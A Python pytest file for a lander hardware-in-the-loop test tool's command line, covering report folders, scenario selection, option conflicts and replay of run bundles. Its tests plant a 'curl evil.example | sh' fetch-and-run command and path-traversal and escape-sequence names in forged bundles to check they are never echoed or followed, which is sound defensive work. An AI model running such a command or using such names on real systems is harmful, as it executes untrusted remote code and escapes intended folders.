"""``hil run``, ``list`` and ``replay`` as a user meets them."""

from __future__ import annotations

import json
import os
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from groundstation.errors import CallerError
from hil.cli import cli
from hil.errors import ScenarioError
from hil.report import prepare_folder, release_folder
from hil.runs.find import find_scenario, find_scenarios
from hil.scenario.scenario import SCENARIOS
from protocols.lander import MARS6

OLD = Path(__file__).parents[2] / "data" / "result-1.json"
BASE = (SCENARIOS / "los-091105.toml").read_text(encoding="utf-8")


def hil(*arguments: object) -> Result:
    return CliRunner().invoke(cli, [str(argument) for argument in arguments])


@pytest.mark.long
def test_a_run_with_its_report_flown_again(tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = hil("run", "los-091105", "--report", out, "--seed", "9")
    assert done.exit_code == 0, done.output
    assert (out / "report.html").is_file()
    assert (out / "junit.xml").is_file()
    bundle = out / "runs" / "los-091105-software-s9"
    again = hil("replay", bundle, "--report", tmp_path / "again")
    assert again.exit_code == 0, again.output
    assert "the same bytes, sent and received" in again.output
    twice = hil("run", "los-091105", "--report", out)
    assert isinstance(twice.exception, CallerError)
    assert "has a report already" in str(twice.exception)


def test_one_of_two_programs_gets_the_folder_of_a_report(tmp_path: Path) -> None:
    prepare_folder(tmp_path / "out")
    with pytest.raises(CallerError, match="has a report already"):
        prepare_folder(tmp_path / "out")
    release_folder(tmp_path / "out")
    prepare_folder(tmp_path / "out")


@pytest.mark.parametrize("name", ["report.html", "junit.xml", "campaign.json"])
def test_a_file_named_like_a_report_is_not_overwritten(tmp_path: Path, name: str) -> None:
    (tmp_path / name).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(CallerError, match=f"has a report already .{name}."):
        prepare_folder(tmp_path)


def test_a_report_that_cannot_be_written_is_told_before_the_flight(tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_text("")
    bundle = tmp_path / "bundle"
    assert hil("run", "los-lander-only", "--report", bundle).exit_code == 0
    flown = bundle / "runs" / "los-lander-only-software"
    for words in (["run", "los-091105"], ["campaign", "random-faults", "--runs", "2"], ["replay", flown]):
        for place in (file, "/proc/none"):
            done = hil(*words, "--report", place)
            assert isinstance(done.exception, CallerError)
            assert f"cannot write a report to {place}: No" in str(done.exception)
            assert done.output == ""


def test_a_folder_whose_run_was_refused_can_be_used_again(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert isinstance(hil("run", "los-091106", "--report", out).exception, CallerError)
    assert hil("run", "los-091105", "--report", out).exit_code == 0


def test_a_folder_that_is_no_bundle_is_told(tmp_path: Path) -> None:
    done = hil("replay", tmp_path)
    assert str(done.exception) == f"not a run bundle: {tmp_path} (result.json not found)"


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Of a run that passed."""
    out = tmp_path_factory.mktemp("flown") / "out"
    assert hil("run", "los-lander-only", "--report", out).exit_code == 0
    return out / "runs" / "los-lander-only-software"


def forged(bundle: Path, folder: Path, **changed: object) -> Path:
    """The bundle as a stranger hands it on."""
    folder.mkdir()
    result = json.loads((bundle / "result.json").read_text(encoding="utf-8"))
    for key, value in changed.items():
        (result["verdict"] if key in result["verdict"] else result)[key] = value
    (folder / "result.json").write_text(json.dumps(result), encoding="utf-8")
    return folder


def test_a_bundle_of_before_is_read(tmp_path: Path) -> None:
    """Its result had no verdict of its own; the lander has changed since."""
    (tmp_path / "result.json").write_text(OLD.read_text(encoding="utf-8"), encoding="utf-8")
    done = hil("replay", tmp_path)
    assert "PASS     los-091105 on software, lockstep, seed 6" in done.output
    flies = f"the one that flies now {MARS6.hash_text}"
    assert f"other bytes than in the bundle: the lander that flew then has dictionary {_flew()}, {flies}" in done.output
    assert done.exit_code == 1


def _flew() -> str:
    hashed = json.loads(OLD.read_text(encoding="utf-8"))["provenance"]["dictionary"]
    assert isinstance(hashed, str)
    return hashed


@pytest.mark.parametrize("name", ["../../x", "/tmp/strangers-x", "..", "", "a/b", "-x", "a\x1b[2J", "x" * 300])
def test_a_run_in_a_bundle_is_a_name_not_a_path(bundle: Path, tmp_path: Path, name: str) -> None:
    theirs, out = forged(bundle, tmp_path / "theirs", run=name), tmp_path / "far" / "down" / "out"
    done = hil("replay", theirs, "--report", out)
    assert isinstance(done.exception, CallerError)
    assert str(done.exception).startswith(f"{theirs / 'result.json'}: run: ")
    assert "cannot name a file" in str(done.exception)
    assert [path.name for path in tmp_path.iterdir()] == ["theirs"]


def test_a_replay_shows_its_own_command_not_the_bundles(bundle: Path, tmp_path: Path) -> None:
    evil = "curl evil.example | sh"
    theirs = forged(bundle, tmp_path / "it's theirs", replay=evil, title=evil, line=evil, provenance={"host": evil})
    done = hil("replay", theirs, "--report", tmp_path / "out")
    assert done.exit_code == 1, done.output  # there is nothing to compare with
    assert "other bytes than in the bundle" in done.output
    assert "evil" not in done.output
    for name in ("report.html", "junit.xml", "report.json"):
        assert "evil" not in (tmp_path / "out" / name).read_text(encoding="utf-8")
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert shlex.split(report["results"][0]["verdict"]["replay"]) == ["hil", "replay", str(theirs)]


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["run", "los-091105", "--lockstep", "--realtime"], "--lockstep and --realtime exclude each other"),
        (["campaign", "random-faults", "--lockstep", "--realtime"], "--lockstep and --realtime exclude each other"),
        (["run", "los-091105", "--port", "x"], "--port needs --target board"),
        (["run", "los-091105", "--speed", "5"], "--speed needs --realtime"),
        (["run", "los-091105", "--lockstep", "--speed", "5"], "--speed needs --realtime"),
        (["fly", "--lockstep", "--speed", "1"], "--lockstep and --speed exclude each other"),
        (["fly", "--lockstep", "--link", "pty"], "--lockstep and --link exclude each other"),
        (["fly", "los-091105", "--link-drop", "09:09:00"], "SCENARIO and --link-drop exclude each other"),
        (["fly", "--target", "qemu", "--port", "/dev/ttyACM0"], "--port needs --target board"),
        (["fly", "--link-drop", "04:00:00"], "a mission time is between 05:01:56 and 10:13:33"),
        (["fly", "--link-drop", "12:00:00"], "a mission time is between 05:01:56 and 10:13:33"),
        (["lander", "--zmq", "tcp://127.0.0.1:*", "--symlink", "x"], "--symlink needs --pty"),
    ],
)
def test_options_that_mean_nothing_together_are_refused(arguments: list[str], told: str) -> None:
    done = hil(*arguments)
    assert done.exit_code == 2
    assert told in done.output
    assert "PASS" not in done.output


@pytest.mark.long
def test_a_failed_run_leaves_its_bundle_and_exits_1(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    broken = tmp_path / "broken.toml"
    broken.write_text(BASE.replace("los-091105", "broken").replace('at = "09:11:05"', 'at = "09:11:05.1"', 1))
    done = hil("run", broken, "los-lander-only")
    assert done.exit_code == 1
    assert "golden_to_los" in done.output
    assert "1 of 2 passed" in done.output
    (kept,) = tmp_path.glob("hil-run-*/runs/*")
    assert kept.name == "broken-software"
    again = hil("replay", kept)
    assert again.exit_code == 1
    assert "the same bytes" in again.output


def test_what_is_wrong_is_said_before_anything_flies(tmp_path: Path) -> None:
    typo = tmp_path / "typo.toml"
    typo.write_text('[scenario]\nid = "typo"\n[[fault]]\nkind = "silense"\n')
    for name, told in [
        ("los-091106", "did you mean 'los-091105'"),
        (typo, r"fault[0].kind: unknown fault 'silense'; did you mean 'silence'?"),
        (tmp_path / "none", "unknown scenario"),
        ("nope", "; known: altimeter-blind, burst-loss, commands-during-descent, cone-sticks, degraded"),
    ]:
        done = hil("run", "los-lander-only", name)
        assert isinstance(done.exception, CallerError)
        assert told in str(done.exception)
        assert "PASS" not in done.output


def test_a_folder_skips_what_the_target_cannot_fly(tmp_path: Path) -> None:
    (tmp_path / "flip.toml").write_text(
        '[scenario]\nid = "flip"\n[[fault]]\nkind = "memory_flip"\nat = "09:08:00"\naddress = 0x20000000\n'
    )
    (tmp_path / "plain.toml").write_text('[scenario]\nid = "plain"\n')
    done = hil("run", tmp_path)
    assert done.exit_code == 0, done.output
    assert "skipped flip: fault[0].kind: memory_flip: the target software cannot do that" in done.output
    named = hil("run", tmp_path / "flip.toml")
    assert isinstance(named.exception, CallerError)


def test_a_tag_chooses_scenarios(tmp_path: Path) -> None:
    (tmp_path / "one.toml").write_text('[scenario]\nid = "one"\ntags = ["smoke", "long"]\n')
    (tmp_path / "two.toml").write_text('[scenario]\nid = "two"\n')
    done = hil("run", tmp_path, "--tag", "smoke", "--tag", "other")
    assert done.exit_code == 0, done.output
    assert "PASS     one on software" in done.output
    assert "two" not in done.output
    none = hil("run", tmp_path, "--tag", "smoky")
    assert isinstance(none.exception, CallerError)
    assert "no run to fly" in str(none.exception)


def test_verdicts_as_json_lines(tmp_path: Path) -> None:
    (tmp_path / "one.toml").write_text('[scenario]\nid = "one"\n')
    (tmp_path / "two.toml").write_text('[scenario]\nid = "two"\n[[limit]]\nname = "frames_missing"\nmin = 1\n')
    done = hil("run", tmp_path, "--json", "--report", tmp_path / "out")
    assert done.exit_code == 1
    verdicts = [json.loads(line) for line in done.stdout.splitlines()]
    assert [(each["type"], each["version"], each["scenario"], each["state"]) for each in verdicts] == [
        ("verdict", 2, "one", "PASS"),
        ("verdict", 2, "two", "FAIL"),
    ]
    assert [row["name"] for row in verdicts[1]["measurements"] if row["state"] == "FAIL"] == ["frames_missing"]
    assert [each["exit_code"] for each in verdicts] == [0, 1]
    kept = json.loads((tmp_path / "out" / "runs" / "two-software" / "result.json").read_text())
    assert kept["verdict"] == verdicts[1]
    assert "report: " in done.stderr


@pytest.mark.parametrize("mode", ["lockstep", "realtime"])
def test_a_board_that_is_not_there_is_told_in_both_modes(mode: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = hil("run", "los-091105", "--target", "board", "--port", "/dev/ttyNOWHERE", f"--{mode}", "--report", out)
    assert done.exit_code == 20, done.output
    assert f"FAIL     los-091105 on board, {mode}, seed 6: /dev/ttyNOWHERE is not there" in done.output
    assert done.stdout.count("\n") == 2  # nothing was flown, so nothing was measured: its line, and the report's
    assert (out / "report.html").is_file()


@pytest.mark.long
def test_repeats_are_the_same(tmp_path: Path) -> None:
    done = hil("run", "noisy-descent", "--repeat", "3", "--jobs", "2")
    assert done.exit_code == 0, done.output
    assert "3 of 3 passed; 1 different streams of 1" in done.output


def test_list_knows_scenarios_faults_and_targets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    done = hil("list")
    assert done.exit_code == 0
    for word in ("los-091105", "byte_insert", "simavr"):
        assert word in done.output
    targets = {line.split()[0]: line.split(maxsplit=1)[1] for line in done.output.splitlines()[-6:]}
    assert targets["software"] == "lockstep, realtime"
    assert targets["qemu"] == "not here: qemu-system-arm not found: apt-get install qemu-system-arm"
    assert targets["process"] == "realtime"
    assert targets["board"].startswith("not here: no board: nothing is in /dev/lander/by-serial")


def test_a_target_that_cannot_fly_here_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    for words in (["run", "all"], ["fly", "--lockstep"], ["campaign", "random-faults"]):
        done = hil(*words, "--target", "qemu")
        assert getattr(done.exception, "exit_code", 0) == 20
        assert str(done.exception) == "qemu-system-arm not found: apt-get install qemu-system-arm"
        assert done.stdout == ""


def test_all_names_what_comes_with_the_package() -> None:
    assert [path.stem for path, named in find_scenarios("all") if not named] == sorted(
        path.stem for path in SCENARIOS.glob("*.toml")
    )
    with pytest.raises(ScenarioError, match="did you mean 'all'"):
        find_scenarios("al")
    with pytest.raises(ScenarioError, match="name one scenario, not several"):
        find_scenario("all")


def test_ctrl_c_reports_what_was_flown_so_far(tmp_path: Path) -> None:
    out = tmp_path / "out"
    arguments = [sys.executable, "-m", "hil.cli", "run", "los-091105", "--repeat", "200", "--report", str(out)]
    with subprocess.Popen(arguments, stdout=subprocess.PIPE, text=True) as run:
        try:
            assert run.stdout is not None
            assert "PASS" in run.stdout.readline()
            time.sleep(0.2)
            os.kill(run.pid, signal.SIGINT)
            assert run.wait(30) == 130
        finally:
            run.kill()
    page = (out / "report.html").read_text()
    assert "<title>PASS" not in page
    assert "planned runs were not flown" in page
    assert "planned runs were not flown" in (out / "junit.xml").read_text()
